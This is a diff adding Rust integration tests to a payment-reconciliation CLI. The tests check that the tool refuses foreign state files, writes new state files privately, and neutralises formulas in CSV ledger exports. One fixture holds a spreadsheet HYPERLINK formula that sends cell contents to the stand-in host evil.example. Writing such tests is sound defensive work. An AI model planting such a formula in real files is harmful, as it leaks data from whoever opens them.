@@ -297,7 +297,8 @@ async fn a_run_interrupted_by_ctrl_c_and_resumed_asks_each_order_once() {
         stderr.contains("run the same command again to resume"),
         "{stderr}"
     );
-    let done = lines(&state);
+    // The file's first line is its marker; each other line one order's row.
+    let done = lines(&state) - 1;
     assert!(done < ids.len(), "interrupted before the end ({done} done)");
 
     let again = paybridge(&config, &args).output().unwrap();
@@ -387,6 +388,107 @@ async fn a_finished_state_file_run_again_asks_every_order_again() {
         "the status the provider holds now, not the first run's"
     );
     assert_eq!(asked(&sandbox.status_requests(), "R-AGAIN"), 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_state_file_that_is_not_the_runs_own_is_refused_untouched_and_a_new_one_is_private() {
+    let sandbox = sandbox().await;
+    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-own");
+    let config = config_file(&dir, &sandbox, None);
+    let csv = dir.join("orders.csv");
+    let orders = "provider,kind,order_id,amount,currency\nvpay88,deposit,R-OWN,100,MYR\n";
+    std::fs::write(&csv, orders).unwrap();
+    let other = dir.join("notes.txt");
+    std::fs::write(&other, "my notes\n").unwrap();
+    let args = |state: &Path| {
+        ["reconcile", "--input", csv.to_str().unwrap(), "--state"]
+            .into_iter()
+            .map(str::to_owned)
+            .chain([state.display().to_string()])
+            .collect::<Vec<String>>()
+    };
+    let run_with = |state: &Path, code: i32| {
+        let args = args(state);
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        run(&config, &args, code)
+    };
+    for (state, says) in [
+        (&csv, "is the --input file"),
+        (&other, "is not a reconcile state file"),
+    ] {
+        let out = run_with(state, 2);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(stderr.contains(says), "{stderr}");
+        assert!(
+            stderr.contains(state.to_str().unwrap()),
+            "names the file: {stderr}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(&csv).unwrap(),
+        orders,
+        "left as it was"
+    );
+    assert_eq!(std::fs::read_to_string(&other).unwrap(), "my notes\n");
+
+    let state = dir.join("progress.jsonl");
+    // The order is unknown to the sandbox: a verdict to look into, exit 6.
+    run_with(&state, 6);
+    let text = std::fs::read_to_string(&state).unwrap();
+    assert_eq!(
+        text.lines().next(),
+        Some(paybridge_cli::reconcile::STATE_MARKER),
+        "{text}"
+    );
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&state).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{}", state.display());
+    }
+    // Its own file is taken again.
+    run_with(&state, 6);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_ledger_export_in_csv_neutralises_a_providers_formula() {
+    let sandbox = sandbox().await;
+    let dir = paybridge_testkit::temp_dir("paybridge-export-formula");
+    let url = format!("sqlite://{}", dir.join("ledger.db").display());
+    let ledger = SqlLedger::open(&url).await.unwrap();
+    let key = OrderKey::new(
+        Provider::Vpay88,
+        None,
+        OrderKind::Deposit,
+        &OrderId::new("X-1").unwrap(),
+    );
+    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
+    ledger
+        .observe(
+            &key,
+            &Observation::new(Source::Status, LedgerState::Pending)
+                .amount(Some(Money::parse("100", "MYR").unwrap()))
+                .provider_status(formula)
+                .detail("@SUM(1+1)"),
+        )
+        .await
+        .unwrap();
+    drop(ledger);
+    let config = config_file(&dir, &sandbox, Some(&url));
+    let out = run(&config, &["ledger", "export", "--format", "csv"], 0);
+    let text = String::from_utf8(out.stdout).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
+    assert_eq!(cell("provider_status"), format!("'{formula}"), "{text}");
+    assert_eq!(cell("amount"), "100", "{text}");
+    assert!(
+        !text.lines().any(|line| line
+            .split(',')
+            .any(|c| c.trim_start_matches('"').starts_with(['=', '@']))),
+        "no cell starts a formula: {text}"
+    );
 }
 
 /// A ledger run killed (SIGKILL) in the middle, every answer moving its order
